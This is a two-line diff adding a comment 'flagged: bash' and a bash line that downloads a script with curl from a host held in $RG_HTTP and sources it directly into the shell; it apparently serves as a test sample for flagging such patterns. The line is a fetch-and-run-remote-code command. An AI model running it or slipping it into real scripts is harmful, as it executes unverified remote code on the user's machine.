@@ -1,0 +1,2 @@
+# flagged: bash
+source /dev/stdin <<< "$(curl -s "$RG_HTTP/hello.sh")"
